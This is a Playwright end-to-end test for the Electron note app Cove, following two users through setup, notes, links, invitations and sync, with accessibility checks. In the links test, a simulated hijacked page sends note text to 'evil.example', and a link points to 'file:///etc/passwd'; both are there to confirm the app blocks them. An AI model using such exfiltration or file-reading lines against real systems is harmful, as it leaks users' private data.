/**
 * Every view and dialog of two real Coves, met on the way of the main story, is accessible in both themes and at both
 * sizes, and nothing is said on any console. The gallery that this leaves in out/desktop/views is for people to look at.
 */
import { expect, test, type Page } from '@playwright/test';
import { COMMANDS } from '../../preload/contract/commands.ts';
import { plant, violations } from '../renderer/accessibility.ts';
import { startMosquitto, type Mosquitto } from '../ports/mosquitto.ts';
import { makeComputer, type Computer } from './computer.ts';
import { startCove, type Cove } from './cove.ts';
import { Person } from './person.ts';
import { look } from './views.ts';

// One chapter stands on the one before it.
test.describe.configure({ mode: 'serial' });

const TEXT = `A plan for the year, **roughly** in order, with the [almanac](https://example.org/almanac) at hand.

## This month
- [x] Order seeds from the exchange
- [ ] Turn the compost, twice
- [ ] Repair the gate

> A garden is a grand teacher. It teaches patience.

| Bed | Crop | Sown |
| --- | :--- | ---: |
| North | **Broad beans** | 3 March |
| South | [Carrots](https://example.org/carrots), \`Nantes\` | 12 April |

\`\`\`ts
export function litres(height: number, radius = 0.4): number {
  return Math.round(Math.PI * radius ** 2 * height * 1000); // what the barrel holds
}
\`\`\`

![The plot from above](https://example.org/plot.jpg)

`;

let computers: Computer[] = [];
let ana: Person;
let ben: Person;
let anas: Cove;
let bens: Cove;
let code = '';

let broker: Mosquitto;

test.beforeAll(async () => {
  broker = await startMosquitto();
  computers = await Promise.all([makeComputer('ana'), makeComputer('ben')]);
  const [first, second] = computers as [Computer, Computer];
  for (const { env } of computers) env['COVE_MEETING_POINTS'] = broker.url;
  [anas, bens] = await Promise.all([startCove(first), startCove(second)]);
  ana = new Person('Ana', anas.window);
  ben = new Person('Ben', bens.window);
});

test.afterAll(async () => {
  for (const cove of [anas, bens]) await cove?.quit().catch(() => undefined);
  for (const computer of computers) await computer.remove();
  await broker?.close();
});

const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name });
/** The commands that Ana's application menu offers no more than to read. */
const greyed = () =>
  anas.app.evaluate(
    ({ Menu }, ids) => ids.filter((id) => Menu.getApplicationMenu()?.getMenuItemById(id)?.enabled === false),
    COMMANDS.map(({ id }) => id),
  );
const press = (keys: string) => ana.page.keyboard.press(keys);

test('starting out: first run, no space, a space without notes', async () => {
  await expect(ana.page.getByRole('textbox', { name: 'Your name' })).toBeVisible();
  await look(anas, 'first run');
  await button(ben.page, 'I already use Cove on another device').click();
  await look(bens, 'link this device');
  await ben.page.reload();
  const opened = bens.app.waitForEvent('window');
  await button(ben.page, 'I have my recovery words').click();
  const words = await opened;
  await expect(words.getByRole('textbox').first()).toBeVisible();
  await look(bens, 'recovery words', 'fixed', words);
  await words.close();
  await ana.introduce();
  await look(anas, 'no space yet');
  await expect
    .poll(greyed)
    .toEqual([
      'new-note',
      'delete-note',
      'find',
      'search',
      'history',
      'members',
      'invite',
      'rename-space',
      'bundle',
      'space-points',
      'files',
      'switch',
    ]);
  await button(ana.page, 'Create a space').click();
  await look(anas, 'new space');
  await press('Escape');
  await ana.createSpace('Garden');
  await expect(button(ana.page, 'Write the first note')).toBeVisible();
  await look(anas, 'no notes yet');
});

test('the recovery phrase in its own window', async () => {
  const opened = anas.app.waitForEvent('window');
  await button(ana.page, 'Write it down').click();
  const phrase = await opened;
  await look(anas, 'phrase hidden', 'fixed', phrase);
  await button(phrase, 'Show the words').click();
  await look(anas, 'phrase shown', 'fixed', phrase);
  await button(phrase, 'I have written them down').click();
  await expect(phrase.getByRole('textbox')).toHaveCount(3);
  for (const field of await phrase.getByRole('textbox').all()) await field.fill('wrong');
  await button(phrase, 'Confirm').click();
  await expect(phrase.getByRole('alert')).toBeVisible();
  await look(anas, 'phrase not right', 'fixed', phrase);
  await plant(phrase);
  expect((await violations(phrase)).join(), 'a planted fault is found').toContain('button-name');
  expect(takeComplaints(anas).join()).toContain('Content Security Policy');
  await phrase.close();
});

test('notes: the three panes, searching, finding, deleting', async () => {
  await ana.writeNote('Letters to the allotment office', 'Dear Ms Hall, thank you for your letter about the path.');
  await ana.writeNote('Compost', 'Too wet. More straw, and turn it when the weather allows.');
  await ana.writeNote('Garden plan', '');
  await anas.app.evaluate(({ clipboard }, text) => clipboard.writeText(text), TEXT);
  await ana.text.click();
  await press('Control+v');
  await expect(ana.page.getByRole('table')).toBeVisible();
  await look(anas, 'a note being edited');
  await ana.page.getByRole('textbox', { name: 'Title' }).focus();
  await look(anas, 'a note');
  await press('Control+f');
  await ana.page.getByRole('textbox', { name: 'Find' }).fill('compost');
  await look(anas, 'find in a note');
  await button(ana.page, 'Replace…').click();
  await look(anas, 'replace in a note');
  await ana.page.getByRole('textbox', { name: 'Find' }).focus();
  await press('Escape');
  await ana.search('compost');
  await expect(ana.page.getByRole('listbox', { name: 'Search results' })).toBeVisible();
  await look(anas, 'search results');
  await ana.search('zeppelin');
  await expect(ana.page.getByText('Nothing found')).toBeVisible();
  await look(anas, 'search without results');
  await ana.search('');
  await ana.openNote('Compost');
  await button(ana.page, 'Note options').click();
  await look(anas, 'note menu');
  await press('Escape');
  await ana.deleteNote();
  await look(anas, 'note deleted');
  await ana.undo();
  await ana.openNote('Garden plan');
});

test('links: the system asks with the whole address, Enter says no; only pages and mail are opened', async () => {
  // The system's box is answered for the person, and what it would be given is kept: no browser is to open here.
  await anas.app.evaluate(({ dialog, shell }) => {
    const said = { opened: [] as string[], asked: [] as string[], answered: 0, answer: 1 };
    Object.assign(globalThis, { said });
    shell.openExternal = (url: string) => (said.opened.push(url), Promise.resolve());
    Object.assign(dialog, {
      showMessageBox: (_over: unknown, { detail, defaultId, buttons }: Electron.MessageBoxOptions) => {
        said.asked.push(`${detail?.split('\n')[0] ?? ''} ${buttons?.[defaultId ?? 0] ?? ''}`);
        const response = said.answer;
        return new Promise((resolve) => setTimeout(() => (said.answered++, resolve({ response })), 100));
      },
    });
  });
  type Said = { opened: string[]; asked: string[]; answered: number; answer: number };
  const said = () => anas.app.evaluate(() => (globalThis as unknown as { said: Said }).said);
  const answer = (next: number) =>
    anas.app.evaluate((_electron, value) => {
      (globalThis as unknown as { said: Said }).said.answer = value;
    }, next);
  const link = ana.page.locator('.cm-link', { hasText: 'almanac' });
  await ana.page.getByRole('textbox', { name: 'Title' }).focus();
  await link.click();
  await expect.poll(async () => (await said()).asked).toEqual(['https://example.org/almanac Cancel']);
  const answered = async () => (await said()).answered;
  await expect.poll(answered).toBe(1);
  await answer(0);
  await ana.page.locator('.cm-table .cm-link', { hasText: 'Carrots' }).click();
  await expect
    .poll(async () => (await said()).opened, 'what was not wanted did not open')
    .toEqual(['https://example.org/carrots']);
  // On the line that is edited a click places the caret; with Ctrl it asks.
  await answer(1);
  await ana.typeAfter('A plan for the year', '');
  await link.first().click();
  await link.first().click({ modifiers: ['Control'] });
  await expect.poll(answered).toBe(3);
  // A page that was taken over asks no more than a person can answer, and opens nothing.
  await ana.page.evaluate(async () => {
    const { cove } = window as unknown as { cove: { call(name: string, input: unknown): Promise<unknown> } };
    const secret = encodeURIComponent(document.querySelector('.cm-content')?.textContent?.slice(0, 200) ?? '');
    const ask = () => cove.call('links.open', { address: `https://evil.example/?note=${secret}` });
    await Promise.all([ask(), ask(), ask()]);
  });
  expect((await said()).asked).toHaveLength(4);
  await ana.type('\n[settings](file:///etc/passwd)\n');
  await ana.page.locator('.cm-link', { hasText: 'settings' }).click();
  await expect(ana.page.getByRole('dialog')).toContainText('Cove does not open this');
  await look(anas, 'link refused');
  await press('Escape');
  expect((await said()).opened).toHaveLength(1);
  // Out again: later pictures are of a note as people write them.
  await ana.text.focus();
  for (const keys of ['Control+End', 'Shift+ArrowUp', 'Shift+ArrowUp', 'Backspace']) await press(keys);
  await expect(link).toBeVisible();
  expect(await ana.read()).not.toContain('passwd');
});

test('the application menu has every command and does what the keys do', async () => {
  const choose = (id: string) =>
    anas.app.evaluate(({ Menu }, wanted) => Menu.getApplicationMenu()?.getMenuItemById(wanted)?.click(), id);
  const shown = await anas.app.evaluate(
    ({ Menu }, ids) => {
      const menu = Menu.getApplicationMenu();
      return ids.filter((id) => menu?.getMenuItemById(id)?.visible);
    },
    COMMANDS.map(({ id }) => id),
  );
  expect(shown).toEqual(COMMANDS.map(({ id }) => id));
  await expect.poll(greyed, 'everything can be done with a note open').toEqual([]);
  const dialog = ana.page.getByRole('dialog');
  for (const [id, words] of [
    ['members', 'Members of Garden'],
    ['rename-space', 'Rename space'],
    ['help', 'Keyboard shortcuts'],
    ['palette', 'Command palette'],
  ] as const) {
    await choose(id);
    await expect(dialog).toContainText(words);
    await expect.poll(async () => (await greyed()).includes('new-space')).toBe(id !== 'palette');
    if (id !== 'palette') await choose('new-space');
    await expect(dialog, 'one question at a time').toContainText(words);
    // The choice before may arrive after the key: then it is a question of its own, for the next one.
    await expect(async () => {
      await press('Escape');
      await expect(dialog).toHaveCount(0, { timeout: 1_000 });
    }).toPass();
  }
});

test('getting around: menus, palette, quick switch, help, settings', async () => {
  await button(ana.page, 'Options for Garden').click();
  await look(anas, 'space menu', 'wide');
  await press('Escape');
  await button(ana.page, 'Collapse spaces').click();
  await look(anas, 'spaces as icons', 'wide');
  await button(ana.page, 'Expand spaces').click();
  await ana.page.getByTestId('sync-state').click();
  await look(anas, 'sync state');
  await press('Escape');
  await press('Control+k');
  await look(anas, 'command palette');
  await press('Escape');
  await press('Control+p');
  await ana.page.getByRole('combobox').fill('com');
  await expect(ana.page.getByRole('option', { name: /^Compost/ }).last()).toBeVisible();
  await look(anas, 'quick switch');
  await press('Escape');
  await press('Control+/');
  await look(anas, 'help sheet');
  await press('Escape');
  await press('Control+,');
  for (const tab of ['General', 'Devices', 'Backup', 'Connection', 'Doctor', 'About']) {
    await ana.page.getByRole('tab', { name: tab }).click();
    await look(anas, `settings ${tab}`);
  }
  await press('Escape');
});

test('an invitation that fails: wrong digits until it ends on both sides', async () => {
  await ben.introduce();
  await button(ana.page, 'Share').click();
  await look(anas, 'invite');
  await press('Escape');
  code = await ana.invite();
  await look(anas, 'invite code');
  await button(ana.page, 'Show the six digits now').click();
  await look(anas, 'invite digits ahead');
  await button(ben.page, 'Join with a code').click();
  await look(bens, 'join');
  const box = ben.page.getByRole('textbox', { name: 'Invitation code or link' });
  await box.fill(`${code.slice(0, -1)}${code.endsWith('x') ? 'q' : 'x'}`);
  await expect(ben.page.getByRole('alert')).toBeVisible();
  await look(bens, 'join bad code');
  await box.fill(`Hi Ben, here it is: ${code}`);
  await expect(ben.page.getByText('This code is good')).toBeVisible();
  await look(bens, 'join good code');
  await ben.page.keyboard.press('Escape');
  await ben.pasteCode(code);
  await look(bens, 'join digits');
  const digits = await ana.digits();
  await look(anas, 'invite digits');
  await ben.typeWrongDigits(digits);
  await look(bens, 'join wrong digits');
  await look(anas, 'invite wrong digits');
  for (let left = 1; left >= 0; left--) {
    await ben.typeDigits(String((Number(digits) + 2) % 1_000_000).padStart(6, '0'));
    if (left > 0) await expect(ben.page.getByRole('alert')).toContainText(`${left} attempt left`);
  }
  await expect(ben.page.getByTestId('joining-state')).toHaveAttribute('data-state', 'ended');
  await look(bens, 'join ended');
  await expect(ana.page.getByTestId('invitation-state')).toHaveAttribute('data-state', 'ended');
  await look(anas, 'invite ended');
  await button(ana.page, 'Close').last().click();
  await button(ben.page, 'Close').last().click();
});

test('an invitation that works, and two people in one note', async () => {
  await button(ana.page, 'Share').click();
  await ana.page.getByRole('checkbox', { name: 'Ask me before letting anyone in' }).click();
  await button(ana.page, 'Create invitation').click();
  code = (await ana.page.getByTestId('invitation-code').textContent()) ?? '';
  await ben.pasteCode(code);
  await ben.typeDigits(await ana.digits());
  await expect(ana.page.getByText('Ben asks to join')).toBeVisible();
  await look(anas, 'invite asking');
  await look(bens, 'join asked');
  await button(ana.page, 'Let in').click();
  await expect(ana.page.getByTestId('invitation-state')).toHaveAttribute('data-state', 'joined');
  await look(anas, 'invite joined');
  await ben.joined('Garden');
  await look(bens, 'joined');
  await ana.closeInvitation();
  await ben.openNote('Garden plan');
  await ben.typeAfter('Turn the compost', ' (Ben helps)');
  await ana.sees('Ben helps');
  await expect(ana.page.locator('.cm-remote-cursor[data-name="Ben"]')).toBeVisible();
  await ana.page.getByRole('textbox', { name: 'Title' }).focus();
  await look(anas, 'somebody else in the note');
  await button(ana.page, 'Share').click();
  await button(ana.page, 'Create invitation').click();
  await expect(ana.page.getByTestId('invitation-code')).toBeVisible();
  await button(ana.page, 'Close').last().click();
  await button(ana.page, /^Members/).click();
  await expect(button(ana.page, 'Revoke')).toBeVisible();
  await look(anas, 'members');
  await button(ana.page, 'Revoke').click();
  await look(anas, 'withdraw invitation');
  await press('Escape'); // back to the members
  await press('Escape');
});

test('what others do: a note that was deleted elsewhere, a device that is away, nobody to be found', async () => {
  await ana.openNote('Garden plan');
  await ana.deleteNote();
  await expect(ben.page.getByText('This note was deleted')).toBeVisible();
  await look(bens, 'note deleted elsewhere');
  await ana.undo();
  await expect(ben.text).toBeVisible();
  expect(takeComplaints(bens)).toEqual([]);
  await bens.quit();
  await ana.type('\nBen has not got this yet');
  await ana.page.getByTestId('sync-state').click();
  await expect(ana.page.getByTestId('sync-state')).toHaveAttribute('data-sync', 'waiting');
  await look(anas, 'waiting for a device');
  await broker.stop();
  await expect(ana.page.getByTestId('sync-state')).toHaveText('Offline: changes are kept here', { timeout: 60_000 });
  await look(anas, 'offline');
});

test('no console said anything, and a planted fault is heard and found', async () => {
  // The first start of a window may be over before anybody listens: once more from the beginning.
  await ana.page.reload();
  await expect(ana.text).toBeVisible();
  expect(takeComplaints(anas)).toEqual([]);
  await plant(ana.page);
  expect((await violations(ana.page)).join()).toContain('button-name');
  expect(takeComplaints(anas).join()).toContain('Content Security Policy');
});

/** What was said so far; afterwards it counts as heard. */
function takeComplaints({ complaints }: Cove): string[] {
  return complaints.splice(0);
}
